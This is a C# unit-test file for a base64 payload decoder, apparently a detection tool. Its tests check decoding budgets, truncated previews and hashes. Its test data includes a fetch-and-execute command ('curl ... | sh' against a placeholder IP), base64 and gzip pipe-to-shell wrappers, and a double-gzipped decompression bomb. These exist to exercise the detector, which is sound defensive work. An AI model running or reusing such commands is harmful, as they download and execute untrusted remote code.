using System;
using System.Collections.Generic;
using System.Diagnostics;
using System.Linq;
using System.Text;
using B64Hunt.Decoding;
using B64Hunt.Model;
using Xunit;
using static B64Hunt.Tests.Decoding.Payloads;

namespace B64Hunt.Tests.Decoding
{
    /// <summary>Issue 12 item 4: budgets of decoded bytes per line and per run, and previews plus hashes beyond a size.</summary>
    public class DecoderBudgetTests
    {
        private readonly Xunit.Abstractions.ITestOutputHelper _output;

        public DecoderBudgetTests(Xunit.Abstractions.ITestOutputHelper output) => _output = output;

        /// <summary>gzip of gzip of 4 MB of commands: a few hundred bytes that decode to 4 MB.</summary>
        private static byte[] DoubleGzipped()
        {
            var text = new StringBuilder();
            while (text.Length < 4 * 1024 * 1024) text.Append("curl -s http://203.0.113.5/x.sh | sh\n");
            return Gzip(Gzip(Utf8(text.ToString(0, 4 * 1024 * 1024))));
        }

        [Fact]
        public void LineOf256DoubleGzippedPayloadsStaysBounded()
        {
            byte[] one = DoubleGzipped();
            // 256 distinct payloads (the gzip header's MTIME differs), so the duplicate check does not hide the work.
            string line = string.Join("; ", Enumerable.Range(0, 256).Select(i =>
            {
                byte[] copy = (byte[])one.Clone();
                copy[4] = (byte)i;
                copy[5] = 1;
                return "echo " + B64(copy) + " | base64 -d | gunzip | gunzip | sh";
            }));
            Assert.InRange(line.Length, 20_000, 200_000);

            long before = GC.GetAllocatedBytesForCurrentThread();
            var watch = Stopwatch.StartNew();
            var problems = new List<Problem>();
            var results = new PayloadDecoder().Decode(line, problems);
            watch.Stop();
            long allocated = GC.GetAllocatedBytesForCurrentThread() - before;

            _output.WriteLine($"line {line.Length} chars, {results.Count} payloads, {results.Sum(r => (long)r.DecodedText.Length)} chars kept, {watch.Elapsed.TotalMilliseconds:F0} ms, {allocated >> 20} MB allocated");
            Assert.Equal(256, results.Count(r => r.Depth == 0));
            long shown = results.Sum(r => (long)r.DecodedText.Length);
            Assert.True(shown <= 16L * 1024 * 1024 + 256L * 64 * 1024, $"{shown} chars kept");
            Assert.Contains(problems, p => p.ErrorId == "DecodeBudgetExceeded");
            Assert.True(watch.Elapsed < TimeSpan.FromSeconds(20), watch.Elapsed.ToString());
            Assert.True(allocated < 1L << 30, $"{allocated >> 20} MB allocated"); // unbounded: about 1 GiB of text, 2 GiB of chars
            Assert.All(results.Where(r => r.IsTruncated), r => Assert.True(r.DecodedText.Length <= 4 * 1024 * 1024));
        }

        [Fact]
        public void RunBudgetIsSharedAcrossLinesAndWarnsOnce()
        {
            var decoder = new PayloadDecoder(new DecoderOptions { MaxDecodedBytesPerRun = 1024 * 1024, PreviewBytes = 4096 });
            var memo = new DecodeMemo(decoder);
            var warnings = new List<Problem>();
            var sizes = new List<int>();
            for (int i = 0; i < 4; i++)
            {
                string big = new StringBuilder().Insert(0, "echo " + i + " curl -s http://203.0.113.5/x.sh | sh\n", 20_000).ToString();
                var result = memo.Decode("echo " + B64(Gzip(Utf8(big))) + " | base64 -d | gunzip | sh");
                warnings.AddRange(result.Problems.Where(p => p.ErrorId == "DecodeBudgetExceeded"));
                sizes.Add(result.Payloads[0].DecodedText.Length);
            }
            Assert.Single(warnings);
            Assert.True(sizes[0] > 500_000);
            Assert.True(sizes[3] <= 4096, string.Join(",", sizes)); // budget spent: a preview only
        }

        [Fact]
        public void LargeTextIsKeptAsAPreviewWithHashesOfTheWhole()
        {
            string big = new StringBuilder().Insert(0, "echo hello; curl -s http://203.0.113.5/x.sh | sh\n", 40_000).ToString();
            byte[] bytes = Utf8(big);
            Assert.True(bytes.Length > 1024 * 1024);
            var payload = Single("echo " + B64(Gzip(bytes)) + " | base64 -d | gunzip | sh");
            Assert.True(payload.IsTruncated);
            Assert.Equal(64 * 1024, payload.DecodedText.Length);
            Assert.Equal(bytes.Length, payload.Size);
            Assert.Equal(Convert.ToHexString(System.Security.Cryptography.SHA256.HashData(bytes)).ToLowerInvariant(), payload.Sha256);
            Assert.StartsWith("echo hello; curl", payload.DecodedText);
        }

        [Fact]
        public void SmallLineIsUnaffectedByTheBudget()
        {
            var problems = new List<Problem>();
            var payload = Single("echo " + B64(Command) + " | base64 -d | bash");
            Assert.Equal(Command, payload.DecodedText);
            Assert.False(payload.IsTruncated);
        }
    }
}
